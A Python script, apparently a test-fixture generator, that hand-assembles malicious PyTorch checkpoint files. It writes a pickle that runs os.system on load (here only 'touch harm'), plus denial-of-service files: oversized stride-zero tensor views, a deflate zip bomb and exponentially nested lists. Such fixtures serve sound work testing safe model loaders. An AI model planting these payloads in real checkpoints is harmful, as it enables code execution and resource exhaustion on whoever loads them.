"""PyTorch files that are made to harm whoever opens them, written opcode by opcode.

python3 make.py writes them beside itself.
"""

import struct
import zipfile
from pathlib import Path

HERE = Path(__file__).parent


def text(value):
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def number(value):
    return b"J" + struct.pack("<i", value)


def numbers(values):
    return b"(" + b"".join(map(number, values)) + b"t"


def tensor(name, shape, stride, stored):
    """An entry of a state dict: a view of a storage that says it holds `stored` numbers."""
    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + number(stored) + b"tQ"
    hooks = b"\x89ccollections\nOrderedDict\n)R"
    view = b"(" + storage + number(0) + numbers(shape) + numbers(stride) + hooks + b"t"
    return text(name) + b"ctorch._utils\n_rebuild_tensor_v2\n" + view + b"R"


def state_dict(*entries):
    return b"\x80\x02}(" + b"".join(entries) + b"u."


def generator():
    """Names and shapes of the public code's generator of 64×64 pictures."""
    channels = [128, 512, 256, 128, 64]
    for layer, (into, out) in enumerate(zip(channels, channels[1:]), 1):
        spectral = {"weight_bar": [into, out, 4, 4], "weight_u": [into], "weight_v": [out * 16], "bias": [out]}
        yield from ((f"l{layer}.0.module.{name}", shape) for name, shape in spectral.items())
        yield from ((f"l{layer}.1.{name}", [out]) for name in ("weight", "bias", "running_mean", "running_var"))
    for layer, width in enumerate([128, 64], 1):
        yield f"attn{layer}.gamma", [1]
        for name, out in {"query": width // 8, "key": width // 8, "value": width}.items():
            yield f"attn{layer}.{name}_conv.weight", [out, width, 1, 1]
            yield f"attn{layer}.{name}_conv.bias", [out]
    yield "last.0.weight", [64, 3, 4, 4]
    yield "last.0.bias", [3]


def write(name, pickle, data=b"", compression=zipfile.ZIP_STORED):
    entries = {"data.pkl": pickle, "byteorder": b"little", "data/0": data, "version": b"3\n"}
    with zipfile.ZipFile(HERE / name, "w") as archive:
        for entry, content in entries.items():
            info = zipfile.ZipInfo(f"archive/{entry}", (1980, 1, 1, 0, 0, 0))
            info.compress_type = compression
            archive.writestr(info, content)


WEIGHT = "l1.0.module.weight_bar"

# One number, said to be a matrix of 1.6 thousand million.
write("expanded.pth", state_dict(tensor(WEIGHT, [40000, 40000], [0, 0], 1)), bytes(4))

# A whole generator, each of its weights a view of one number.
hollow = (tensor(name, shape, [0] * len(shape), 1) for name, shape in generator())
write("hollow.pth", state_dict(*hollow), bytes(4))

# Twenty megabytes of zeros, packed to a thousandth.
write("deflated.pth", state_dict(tensor(WEIGHT, [5_000_000], [1], 5_000_000)), bytes(20_000_000), zipfile.ZIP_DEFLATED)

# A command, which unpickling would run.
write("runs.pth", b"\x80\x02cos\nsystem\n" + text("touch harm") + b"\x85R.")

# Lists that each hold the one before twice: 2^40 in the end.
nested = b"\x80\x02]q\x00"
for depth in range(40):
    nested += b"]q" + bytes([depth + 1]) + b"(h" + bytes([depth]) + b"h" + bytes([depth]) + b"e"
write("nested.pth", nested + b".")
